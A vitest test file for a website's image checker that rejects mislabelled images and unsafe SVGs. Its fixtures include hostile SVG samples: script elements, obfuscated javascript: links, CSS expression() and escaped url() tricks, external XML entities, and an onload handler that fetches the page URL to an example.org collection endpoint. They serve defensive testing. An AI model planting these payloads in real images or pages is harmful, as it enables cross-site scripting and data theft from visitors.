import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { checkImage, type ImageRefusal } from "../../scripts/content/check-image.ts";

const utf8 = (text: string) => new TextEncoder().encode(text);
const base64 = (text: string) => new Uint8Array(Buffer.from(text, "base64"));
const check = (path: string, text: string) => checkImage(path, utf8(text));

const svgOpen = '<svg xmlns="http://www.w3.org/2000/svg">';
/** An SVG whose body lines start on line 2. */
const drawing = (...body: string[]) => [svgOpen, ...body, "</svg>"].join("\n");

const refusal = (
  code: ImageRefusal["code"],
  line: number,
  column: number,
  message: string,
  hint: string,
): ImageRefusal => ({ code, line, column, message, hint });
const unsafe = (line: number, column: number, message: string, hint: string) =>
  refusal("unsafe-svg", line, column, message, hint);
const malformed = (line: number, column: number, message: string, hint: string) =>
  refusal("malformed-svg", line, column, message, hint);
const notWhatItSays = (message: string, hint: string) =>
  refusal("image-not-what-it-says", 1, 1, message, hint);

// 1x1 images written by ImageMagick 6.9 (`convert -size 1x1 xc:red -strip out.EXT`).
const png = base64(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABAQMAAAAl21bKAAAAA1BMVEX/AAAZ4gk3AAAACklEQVQI12NgAAAAAgAB4iG8MwAAAABJRU5ErkJggg==",
);
const jpeg = base64(
  "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAMCAgICAgMCAgIDAwMDBAYEBAQEBAgGBgUGCQgKCgkICQkKDA8MCgsOCwkJDRENDg8QEBEQCgwSExIQEw8QEBD/2wBDAQMDAwQDBAgEBAgQCwkLEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBD/wAARCAABAAEDAREAAhEBAxEB/8QAFAABAAAAAAAAAAAAAAAAAAAACP/EABQQAQAAAAAAAAAAAAAAAAAAAAD/xAAVAQEBAAAAAAAAAAAAAAAAAAAHCf/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/ADoDFU3/2Q==",
);
const gif = base64("R0lGODlhAQABAPAAAP8AAAAAACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==");
const webp = base64(
  "UklGRjwAAABXRUJQVlA4IDAAAADQAQCdASoBAAEAAgA0JaACdLoB+AADsAD+8MQL/yC5YXXI1/8gP+QH/ID/+PIAAAA=",
);
/** An ISO BMFF `ftyp` box: size, "ftyp", major brand, minor version, compatible brands. */
const ftyp = (major: string, ...compatible: string[]) => {
  const size = 16 + 4 * compatible.length;
  return new Uint8Array([
    ...[0, 0, 0, size],
    ...utf8("ftyp"),
    ...utf8(major),
    ...[0, 0, 0, 0],
    ...compatible.flatMap((brand) => [...utf8(brand)]),
  ]);
};

const scriptHint =
  "Remove it, or export the drawing again as a plain SVG (or PNG) without scripts.";
const urlHint =
  "Point url() only at parts of this drawing, such as url(#gradient); put pictures in as <image> elements with embedded PNG, JPEG, GIF or WebP data.";
const foreignHint =
  "Remove it and everything inside it, or export the drawing again as plain SVG (in Inkscape: Save As, then Plain SVG or Optimized SVG).";
const loadsHint =
  'Embed the picture in the drawing as PNG, JPEG, GIF or WebP data (drawing programs call this "embed" rather than "link"), or point href at a part of this drawing with #its-id.';
const plainSvgHint =
  "Fix the markup at this line and column, or open the drawing in a drawing program such as Inkscape and save it again as plain SVG.";

describe("binary images", () => {
  it("pass when the bytes are the format the extension names, whatever its case", () => {
    expect(checkImage("guide/images/dot.png", png)).toEqual([]);
    expect(checkImage("guide/images/dot.jpg", jpeg)).toEqual([]);
    expect(checkImage("guide/images/dot.JPEG", jpeg)).toEqual([]);
    expect(checkImage("guide/images/dot.gif", gif)).toEqual([]);
    expect(checkImage("guide/images/dot.webp", webp)).toEqual([]);
    expect(checkImage("guide/images/dot.avif", ftyp("avif", "mif1", "miaf"))).toEqual([]);
    // An image sequence may name avif only among the compatible brands.
    expect(checkImage("guide/images/dot.avif", ftyp("mif1", "avis", "msf1"))).toEqual([]);
  });

  it("are refused when a web page was saved under an image's name", () => {
    expect(check("logo.png", "<!DOCTYPE html>\n<html><body>Not found</body></html>")).toEqual([
      notWhatItSays(
        "This file's name ends in .png, but its contents are an HTML document, not a PNG image.",
        "Save the image again as PNG: this file is a web page, which often happens when the page showing an image is saved instead of the image itself.",
      ),
    ]);
  });

  it("are refused when a saved web page starts with a comment", () => {
    const page = "<!-- saved from url=(0014)about:internet -->\n<html><body></body></html>";
    expect(check("photo.jpg", page)).toEqual([
      notWhatItSays(
        "This file's name ends in .jpg, but its contents are an HTML document, not a JPEG image.",
        "Save the image again as JPEG: this file is a web page, which often happens when the page showing an image is saved instead of the image itself.",
      ),
    ]);
  });

  it("are refused when they are another image format, with the extension to rename to", () => {
    expect(checkImage("photo.jpg", png)).toEqual([
      notWhatItSays(
        "This file's name ends in .jpg, but its contents are a PNG image, not a JPEG image.",
        "Rename the file to end in .png (and update the links to it), or save the image again as JPEG.",
      ),
    ]);
    expect(check("diagram.PNG", `<?xml version="1.0"?>\n${svgOpen}</svg>`)).toEqual([
      notWhatItSays(
        "This file's name ends in .png, but its contents are an SVG image, not a PNG image.",
        "Rename the file to end in .svg (and update the links to it), or save the image again as PNG.",
      ),
    ]);
    expect(checkImage("photo.avif", ftyp("heic", "mif1", "heic"))).toEqual([
      notWhatItSays(
        "This file's name ends in .avif, but its contents are a HEIC photo (the format iPhones save by default), not an AVIF image.",
        "Save the image again as AVIF, or rename the file to end in the extension of the format it is really in.",
      ),
    ]);
  });

  it("are refused when they are text, empty or unrecognisable", () => {
    expect(check("chart.gif", "Quarterly numbers\n")).toEqual([
      notWhatItSays(
        "This file's name ends in .gif, but its contents are text, not a GIF image.",
        "Save the image again as GIF, or rename the file to end in the extension of the format it is really in.",
      ),
    ]);
    expect(checkImage("chart.webp", new Uint8Array())).toEqual([
      notWhatItSays(
        "This file is empty, so it is not a WebP image.",
        "Save the image again as WebP, and check that it was copied or downloaded completely.",
      ),
    ]);
    // A RIFF file that is not WebP, such as a WAVE sound.
    const wave = new Uint8Array([...utf8("RIFF"), 4, 0, 0, 0, ...utf8("WAVE"), 0, 0, 0, 0]);
    expect(checkImage("chart.webp", wave)).toEqual([
      notWhatItSays(
        "This file's name ends in .webp, but its contents are not a WebP image; the file may be damaged or in a format the site does not publish.",
        "Save the image again as WebP, or rename the file to end in the extension of the format it is really in.",
      ),
    ]);
    // The first bytes of a PNG with its signature cut short are not a PNG.
    expect(checkImage("dot.png", png.subarray(0, 7))[0]?.code).toBe("image-not-what-it-says");
  });

  it("are refused when the extension is not a format the site publishes", () => {
    expect(checkImage("scan.bmp", png)).toEqual([
      notWhatItSays(
        "This file's name ends in .bmp, which is not an image format the site publishes.",
        "Save the image as PNG, JPEG, GIF, WebP, AVIF or SVG, with the matching extension.",
      ),
    ]);
  });
});

describe("SVG images that may be published", () => {
  it("pass with titles, gradients, internal references, safe styles and embedded pictures", () => {
    const svg = [
      '<?xml version="1.0" encoding="UTF-8"?>',
      "<!-- Drawn for the charter page -->",
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">',
      "  <title>A red square</title>",
      "  <desc>Used on the charter page.</desc>",
      "  <defs>",
      '    <linearGradient id="g"><stop offset="0" stop-color="red"/><stop offset="1" stop-color="blue"/></linearGradient>',
      '    <rect id="shape" width="4" height="4"/>',
      "  </defs>",
      '  <style>.a{fill:url(#g)} .b { stroke: url( "#g" ) }</style>',
      '  <rect class="a" width="10" height="10" fill="url(#g)" style="fill: red"/>',
      '  <use href="#shape"/>',
      '  <use xlink:href=" #shape "/>',
      '  <image width="1" height="1" href="data:image/png;base64,iVBORw0KGgo="/>',
      '  <animate attributeName="opacity" from="0" to="1" dur="1s"/>',
      '  <a href="#shape"><text>See the square</text></a>',
      "</svg>",
    ].join("\n");
    expect(check("guide/images/square.svg", svg)).toEqual([]);
  });

  it("pass with the settings and licence metadata Inkscape and Illustrator write", () => {
    const svg = [
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"',
      '  xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"',
      '  xmlns:cc="http://creativecommons.org/ns#" xmlns:dc="http://purl.org/dc/elements/1.1/" viewBox="0 0 10 10">',
      '  <sodipodi:namedview inkscape:zoom="2" pagecolor="#ffffff"/>',
      "  <metadata><rdf:RDF><cc:Work><dc:title>Cycle</dc:title></cc:Work></rdf:RDF></metadata>",
      '  <g inkscape:label="Layer 1" inkscape:groupmode="layer"><circle cx="5" cy="5" r="4"/></g>',
      "</svg>",
    ].join("\n");
    expect(check("a.svg", svg)).toEqual([]);
  });

  it("pass with a byte order mark and Windows line endings", () => {
    expect(
      checkImage("a.svg", utf8(`\ufeff${svgOpen}\r\n  <rect width="1"/>\r\n</svg>\r\n`)),
    ).toEqual([]);
  });

  it("pass with groups nested 256 levels deep", () => {
    const svg = `${svgOpen}${"<g>".repeat(255)}${"</g>".repeat(255)}</svg>`;
    expect(check("deep.svg", svg)).toEqual([]);
  });
});

describe("SVG images that are not well-formed", () => {
  it("are refused at the parser's line and column", () => {
    expect(check("a.svg", drawing("  <g>", "  <rect/>"))).toEqual([
      malformed(
        4,
        6,
        "The SVG file is not well-formed XML, so browsers will not show it (the XML reader stopped here: unexpected close tag).",
        plainSvgHint,
      ),
    ]);
  });

  it("say how to declare the xlink prefix when it is missing", () => {
    expect(check("a.svg", drawing('  <use xlink:href="#a"/>'))).toEqual([
      malformed(
        2,
        24,
        'The SVG file is not well-formed XML, so browsers will not show it (the XML reader stopped here: unbound namespace prefix: "xlink").',
        'Add xmlns:xlink="http://www.w3.org/1999/xlink" to the <svg> element at the start of the file.',
      ),
    ]);
  });

  it("say which characters XML knows by name when an HTML entity is used", () => {
    expect(check("a.svg", drawing("  <text>A&nbsp;B</text>"))).toEqual([
      malformed(
        2,
        15,
        "The SVG file is not well-formed XML, so browsers will not show it (the XML reader stopped here: undefined entity).",
        "Write the character itself (the file is UTF-8), or a numeric reference such as &#160; for a no-break space; XML knows only &amp; &lt; &gt; &quot; and &apos;.",
      ),
    ]);
  });

  it("are refused when the outermost element is not an SVG <svg>", () => {
    expect(check("a.svg", '<svg>\n  <rect width="1"/>\n</svg>')).toEqual([
      malformed(
        1,
        1,
        'The <svg> element has no xmlns="http://www.w3.org/2000/svg", so browsers show the file as text instead of drawing it.',
        'Add xmlns="http://www.w3.org/2000/svg" to the <svg> element at the start of the file.',
      ),
    ]);
    expect(check("a.svg", '<g xmlns="http://www.w3.org/2000/svg"/>')).toEqual([
      malformed(
        1,
        1,
        "The file's outermost element is <g>, but an SVG image must start with an <svg> element.",
        'Put the drawing inside <svg xmlns="http://www.w3.org/2000/svg">…</svg>, or save it again as SVG from a drawing program.',
      ),
    ]);
  });

  it("are refused at the first element nested deeper than 256 levels, without reading on", () => {
    const depth = 100_000;
    const svg = `${svgOpen}${"<g>".repeat(depth)}${"</g>".repeat(depth)}</svg>`;
    expect(check("deep.svg", svg)).toEqual([
      malformed(
        1,
        svgOpen.length + 255 * "<g>".length + 1,
        "The <g> element is nested more than 256 elements deep, far deeper than any drawing needs.",
        "Open the drawing in a drawing program, ungroup the nested groups, and save it again as plain SVG.",
      ),
    ]);
  });

  it("are refused at the first byte that is not UTF-8", () => {
    const bytes = new Uint8Array([
      ...utf8(`${svgOpen}\n  <text>Caf`),
      0xe9,
      ...utf8("</text></svg>"),
    ]);
    expect(checkImage("a.svg", bytes)).toEqual([
      malformed(
        2,
        12,
        "The SVG file is not valid UTF-8 text: the byte 0xE9 here cannot be read as a character.",
        "Save the drawing again with UTF-8 encoding, or retype the character at this place.",
      ),
    ]);
    // U+FFFD written out in the file is a character like any other, not the bad byte.
    const replacement = new Uint8Array([...utf8(`${svgOpen}\n\ufffd`), 0xff]);
    expect(checkImage("a.svg", replacement)[0]).toMatchObject({ line: 2, column: 2 });
  });

  it("are refused when saved as UTF-16 or declared in another encoding", () => {
    expect(checkImage("a.svg", new Uint8Array([0xff, 0xfe, 0x3c, 0x00]))).toEqual([
      malformed(
        1,
        1,
        "The SVG file is saved as UTF-16 text, but SVG images here must be saved as UTF-8.",
        "Save the drawing again with UTF-8 encoding (most editors offer it in the Save As dialog).",
      ),
    ]);
    expect(
      check("a.svg", `<?xml version="1.0" encoding="windows-1252"?>\n${svgOpen}</svg>`),
    ).toEqual([
      malformed(
        1,
        1,
        "The XML declaration says the file is in the windows-1252 encoding, but SVG images here must be UTF-8, and browsers would read the file in the encoding it names.",
        'Change encoding="windows-1252" to encoding="UTF-8", and check that the file is saved as UTF-8.',
      ),
    ]);
  });

  it("are refused as what they are when they are a web page or a PNG", () => {
    expect(check("a.svg", "<!doctype html><html><script>alert(1)</script></html>")).toEqual([
      notWhatItSays(
        "This file's name ends in .svg, but its contents are an HTML document, not an SVG image.",
        "Save the image again as SVG: this file is a web page, which often happens when the page showing an image is saved instead of the image itself.",
      ),
    ]);
    expect(checkImage("a.svg", png)).toEqual([
      notWhatItSays(
        "This file's name ends in .svg, but its contents are a PNG image, not an SVG image.",
        "Rename the file to end in .png (and update the links to it), or save the image again as SVG.",
      ),
    ]);
  });
});

describe("SVG images that could run code or load files", () => {
  it("are refused for each element that runs code, embeds pages or plays media", () => {
    const svg = drawing(
      "  <script>alert(1)</script>",
      '  <foreignObject><div xmlns="http://www.w3.org/1999/xhtml">Hi</div></foreignObject>',
      '  <iframe src="https://example.org"/>',
      '  <embed src="movie.swf"/>',
      '  <object data="page.html"/>',
      '  <audio src="song.mp3"/>',
      '  <video src="clip.mp4"/>',
      '  <handler type="application/ecmascript">alert(1)</handler>',
      '  <listener event="click" handler="#h"/>',
      '  <x:widget xmlns:x="urn:example:widgets"/>',
      '  <s:script xmlns:s="http://www.w3.org/2000/svg">alert(2)</s:script>',
    );
    const loadsPage = "Remove it; link to the other page or file from the page text instead.";
    const media = "Remove it; put audio or video on the page itself, not inside an image.";
    expect(check("a.svg", svg)).toEqual([
      unsafe(2, 3, "The <script> element runs code when the image is opened.", scriptHint),
      unsafe(
        3,
        3,
        "The <foreignObject> element puts web-page content inside the drawing, which can run code or load files from elsewhere.",
        "Remove it, or export the drawing again as a plain SVG (or PNG); redraw any text in it with SVG <text> elements.",
      ),
      unsafe(
        3,
        18,
        "The <div> element is web-page (XHTML) content inside the drawing, which can run code or load files from elsewhere.",
        foreignHint,
      ),
      unsafe(4, 3, "The <iframe> element loads another page or file into the drawing.", loadsPage),
      unsafe(5, 3, "The <embed> element loads another page or file into the drawing.", loadsPage),
      unsafe(6, 3, "The <object> element loads another page or file into the drawing.", loadsPage),
      unsafe(
        7,
        3,
        "The <audio> element plays a media file that is loaded from outside the drawing.",
        media,
      ),
      unsafe(
        8,
        3,
        "The <video> element plays a media file that is loaded from outside the drawing.",
        media,
      ),
      unsafe(
        9,
        3,
        "The <handler> element attaches code to events in the drawing, such as clicks.",
        scriptHint,
      ),
      unsafe(
        10,
        3,
        "The <listener> element attaches code to events in the drawing, such as clicks.",
        scriptHint,
      ),
      unsafe(
        11,
        3,
        "The <x:widget> element is not SVG (its namespace is urn:example:widgets), so the site cannot check what it does when the image is opened.",
        foreignHint,
      ),
      unsafe(12, 3, "The <s:script> element runs code when the image is opened.", scriptHint),
    ]);
  });

  it("are refused when the outermost element is a web page in XML form", () => {
    const xhtml =
      '<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>';
    expect(check("a.svg", xhtml)).toEqual([
      notWhatItSays(
        "This file's name ends in .svg, but its contents are an HTML document, not an SVG image.",
        "Save the image again as SVG: this file is a web page, which often happens when the page showing an image is saved instead of the image itself.",
      ),
    ]);
    // A prefix does not hide the page: the namespace decides what the element is.
    const prefixed = '<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:body/></x:html>';
    expect(check("a.svg", prefixed)).toEqual([
      unsafe(
        1,
        1,
        "The file's outermost element is <x:html> from the namespace http://www.w3.org/1999/xhtml, not an SVG <svg> element, so opened on the site it would not behave as an image and could run code.",
        'Save the drawing again as SVG from a drawing program, so that the file starts with <svg xmlns="http://www.w3.org/2000/svg">.',
      ),
    ]);
  });

  it("are refused for each event-handler attribute, in any case or namespace", () => {
    const long = `fetch('https://example.org/collect?page=' + encodeURIComponent(location.href))`;
    const svg = [
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${long}">`,
      '  <rect ONCLICK="steal()" width="1"/>',
      '  <g xmlns:x="urn:example" x:onmouseover="go()"/>',
      '  <stop offset="1"/>',
      "</svg>",
    ].join("\n");
    const handlerHint =
      "Remove the attribute, or export the drawing again as a plain SVG (or PNG) without scripts.";
    expect(check("a.svg", svg)).toEqual([
      unsafe(
        1,
        41,
        `The onload="fetch('https://example.org/collect?page=' + encodeURICompon…" attribute on <svg> runs code when something happens to the drawing, such as a click or the image loading.`,
        handlerHint,
      ),
      unsafe(
        2,
        9,
        'The ONCLICK="steal()" attribute on <rect> runs code when something happens to the drawing, such as a click or the image loading.',
        handlerHint,
      ),
      unsafe(
        3,
        28,
        'The x:onmouseover="go()" attribute on <g> runs code when something happens to the drawing, such as a click or the image loading.',
        handlerHint,
      ),
    ]);
  });

  it("are refused for each href that leaves the drawing, and pass fragments and picture data", () => {
    const svg = [
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">',
      '  <image href="https://example.org/logo.png"/>',
      '  <use xlink:href="other.svg#shape"/>',
      '  <a href=" javascript:alert(1)"><text>Go</text></a>',
      '  <feImage href="java&#9;script:alert(2)"/>',
      '  <image href="data:image/svg+xml;base64,PHN2Zz4="/>',
      '  <a href="https://example.org/"><text>Out</text></a>',
      '  <use href="  #shape "/>',
      '  <image href="DATA:image/PNG;base64,AAAA"/>',
      "</svg>",
    ].join("\n");
    const runsCodeHint =
      "Remove the link, or export the drawing again as a plain SVG (or PNG) without scripts.";
    expect(check("a.svg", svg)).toEqual([
      unsafe(
        2,
        10,
        'The href="https://example.org/logo.png" attribute on <image> loads a file from outside the drawing.',
        loadsHint,
      ),
      unsafe(
        3,
        8,
        'The xlink:href="other.svg#shape" attribute on <use> loads a file from outside the drawing.',
        loadsHint,
      ),
      unsafe(
        4,
        6,
        'The href="javascript:alert(1)" attribute on <a> runs code when the link is followed.',
        runsCodeHint,
      ),
      unsafe(
        5,
        12,
        'The href="java script:alert(2)" attribute on <feImage> runs code when the link is followed.',
        runsCodeHint,
      ),
      unsafe(
        6,
        10,
        'The href="data:image/svg+xml;base64,PHN2Zz4=" attribute on <image> embeds a file of a kind that can carry code; only PNG, JPEG, GIF and WebP pictures may be embedded.',
        "Embed the picture as PNG, JPEG, GIF or WebP data instead, or draw it directly in this SVG.",
      ),
      unsafe(
        7,
        6,
        'The href="https://example.org/" attribute on <a> makes the drawing link to another address, which opened on the site could lead readers anywhere.',
        "Remove the link from the drawing and put it in the page text next to the image.",
      ),
    ]);
  });

  it("are refused for each animation of an href or event-handler attribute", () => {
    const svg = drawing(
      '  <set attributeName="href" to="https://example.org"/>',
      '  <animate attributeName=" xlink:href " values="#a;#b"/>',
      '  <animateTransform attributeName="onclick"/>',
      '  <animateMotion attributeName="ONBEGIN"/>',
      '  <animateColor attributeName="onend"/>',
      '  <animate attributeName="opacity" from="0" to="1"/>',
    );
    const animationHint =
      "Remove the animation, or animate another attribute such as opacity or transform.";
    const animates = (element: string, attribute: string) =>
      `The <${element}> element animates the ${attribute} attribute, which can add code or a link to another file while the drawing is shown.`;
    expect(check("a.svg", svg)).toEqual([
      unsafe(2, 8, animates("set", "href"), animationHint),
      unsafe(3, 12, animates("animate", "xlink:href"), animationHint),
      unsafe(4, 21, animates("animateTransform", "onclick"), animationHint),
      unsafe(5, 18, animates("animateMotion", "ONBEGIN"), animationHint),
      unsafe(6, 17, animates("animateColor", "onend"), animationHint),
    ]);
  });

  it("are refused for each style that imports, runs code or loads a file, at its place", () => {
    const svg = drawing(
      "  <style>",
      '    @import "theme.css";',
      "    .a { fill: url(#g) }",
      "    .b { background: url( 'https://example.org/x.png' ) }",
      "    .c { width: expression(alert(1)) }",
      "    .d { background: u\\72 l(//example.org/y.png) }",
      "  </style>",
      '  <rect style="fill:url(#g); cursor: URL(hand.cur)"/>',
      '  <rect style="background: javascript:alert(1)"/>',
      "  <style><![CDATA[",
      "  .e{mask:image-set('m.png' 1x)}",
      "  ]]></style>",
      '  <rect fill="url(https://example.org/p.svg#p)"/>',
    );
    const inStyle = "The <style> element contains";
    expect(check("a.svg", svg)).toEqual([
      unsafe(
        3,
        5,
        `${inStyle} @import "theme.css", which loads another style sheet from outside the drawing.`,
        "Delete the @import and copy the styles you need into the drawing's <style> element.",
      ),
      unsafe(
        5,
        22,
        `${inStyle} url( 'https://example.org/x.png' ), which loads a file from outside the drawing.`,
        urlHint,
      ),
      unsafe(
        6,
        17,
        `${inStyle} expression(alert(1)), which runs code in some browsers.`,
        "Delete the expression and write the value itself.",
      ),
      unsafe(
        7,
        22,
        `${inStyle} u\\72 l(//example.org/y.png), which loads a file from outside the drawing.`,
        urlHint,
      ),
      unsafe(
        9,
        38,
        "The style attribute contains URL(hand.cur), which loads a file from outside the drawing.",
        urlHint,
      ),
      unsafe(
        10,
        28,
        "The style attribute contains javascript:alert(1), which runs code.",
        "Delete it; the styles of a drawing must not run code.",
      ),
      unsafe(
        12,
        11,
        `${inStyle} image-set('m.png' 1x), which loads a file from outside the drawing.`,
        urlHint,
      ),
      unsafe(
        14,
        15,
        "The fill attribute contains url(https://example.org/p.svg#p), which loads a file from outside the drawing.",
        urlHint,
      ),
    ]);
  });

  it("read a <style> as the browser does, across XML comments and character references", () => {
    const svg = drawing(
      "  <style>.a { fill: u<!-- split -->rl(https://example.org/p.svg#p) }</style>",
      '  <rect style="background: &#117;rl(https://example.org/x.png)"/>',
    );
    expect(check("a.svg", svg)).toEqual([
      unsafe(
        2,
        21,
        "The <style> element contains url(https://example.org/p.svg#p), which loads a file from outside the drawing.",
        urlHint,
      ),
      unsafe(
        3,
        28,
        "The style attribute contains url(https://example.org/x.png), which loads a file from outside the drawing.",
        urlHint,
      ),
    ]);
  });

  it("are refused for a DOCTYPE, each entity declaration and each processing instruction", () => {
    const svg = [
      '<?xml version="1.0" encoding="UTF-8"?>',
      "<!DOCTYPE svg [",
      '  <!-- <!ENTITY commented "not a declaration"> -->',
      '  <!ENTITY logo SYSTEM "https://example.org/logo.txt">',
      '  <!ENTITY big "&logo;&logo;">',
      "]>",
      '<?xml-stylesheet href="theme.css" type="text/css"?>',
      svgOpen,
      "  <?inkscape-cleanup now?>",
      "</svg>",
    ].join("\n");
    expect(check("a.svg", svg)).toEqual([
      unsafe(
        2,
        1,
        'The document type declaration <!DOCTYPE svg [ <!-- <!ENTITY commented "not a declaration"… can define entities that pull in other files or expand to huge amounts of text.',
        "Delete the <!DOCTYPE …> declaration; SVG images do not need one.",
      ),
      unsafe(
        4,
        3,
        'The entity declaration <!ENTITY logo SYSTEM "https://example.org/logo.txt"> can pull text from other files into the drawing or expand to huge amounts of text.',
        "Delete the declaration and the <!DOCTYPE …> around it, and write out the text it stands for where it is used.",
      ),
      unsafe(
        5,
        3,
        'The entity declaration <!ENTITY big "&logo;&logo;"> can pull text from other files into the drawing or expand to huge amounts of text.',
        "Delete the declaration and the <!DOCTYPE …> around it, and write out the text it stands for where it is used.",
      ),
      unsafe(
        7,
        1,
        'The processing instruction <?xml-stylesheet href="theme.css" type="text/css"?> makes the browser load a style sheet from outside the drawing.',
        "Delete it; put any styles the drawing needs in a <style> element inside the drawing.",
      ),
      unsafe(
        9,
        3,
        "The processing instruction <?inkscape-cleanup now?> gives instructions to the program opening the file, which the site cannot check.",
        "Delete it; a drawing does not need it.",
      ),
    ]);
  });

  it("are refused for xml:base, which redirects the drawing's references", () => {
    expect(
      check("a.svg", `<svg xmlns="http://www.w3.org/2000/svg" xml:base="https://example.org/"/>`),
    ).toEqual([
      unsafe(
        1,
        41,
        `The xml:base="https://example.org/" attribute on <svg> changes where the drawing's links and references point, so even references to parts of the drawing could load files from elsewhere.`,
        "Remove the attribute; the drawing does not need it.",
      ),
    ]);
  });

  it("count columns in characters, so an emoji before a finding takes one column", () => {
    expect(check("a.svg", drawing("  <!-- 😀 --><script/>"))[0]).toMatchObject({
      line: 2,
      column: 13,
    });
  });

  it("list 20 findings and then say how many more there are", () => {
    const svg = drawing(...Array.from({ length: 25 }, () => '  <rect onclick="a()"/>'));
    const refusals = check("a.svg", svg);
    expect(refusals).toHaveLength(21);
    expect(refusals.slice(0, 20).map((r) => [r.line, r.column])).toEqual(
      Array.from({ length: 20 }, (_, i) => [i + 2, 9]),
    );
    expect(refusals[20]).toEqual(
      unsafe(
        22,
        9,
        "This drawing has 5 more problems like these, starting here, that are not listed.",
        "Fix the problems above and check the file again to see the rest, or export the drawing again as a plain SVG (or PNG) without scripts, links or external pictures.",
      ),
    );
  });
});

describe("checkImage on any input", () => {
  const extensions = ["png", "jpg", "jpeg", "gif", "webp", "avif", "svg", "SVG", "bmp", ""];
  const wellFormedRefusal = (r: ImageRefusal) =>
    ["image-not-what-it-says", "malformed-svg", "unsafe-svg"].includes(r.code) &&
    Number.isInteger(r.line) &&
    Number.isInteger(r.column) &&
    r.line >= 1 &&
    r.column >= 1 &&
    r.message.endsWith(".") &&
    r.hint.endsWith(".");

  it("never throws on random bytes, and every refusal has a place, a message and a hint", () => {
    fc.assert(
      fc.property(fc.constantFrom(...extensions), fc.uint8Array({ maxLength: 600 }), (ext, bytes) =>
        checkImage(`images/x.${ext}`, bytes).every(wellFormedRefusal),
      ),
      { numRuns: 1000 },
    );
  });

  it("never throws on text made of SVG's own pieces", () => {
    const piece = fc.constantFrom(
      svgOpen,
      "<svg",
      "</svg>",
      "<g>",
      "</g>",
      "<style>",
      "</style>",
      "<![CDATA[",
      "]]>",
      "<!DOCTYPE svg [",
      '<!ENTITY a "b">',
      "]>",
      "<?xml version='1.0'?>",
      "<?pi x?>",
      "<!--",
      "-->",
      ' href="',
      ' onclick="',
      ' style="',
      '"',
      "url(",
      "\\75 rl(",
      "#",
      "@import",
      "&amp;",
      "&#",
      ";",
      "/>",
      ">",
      "<",
      " ",
      "\n",
      "\r",
      "é",
      "😀",
      "\ud800",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) =>
        check("x.svg", pieces.join("")).every(wellFormedRefusal),
      ),
      { numRuns: 2000 },
    );
  });
});
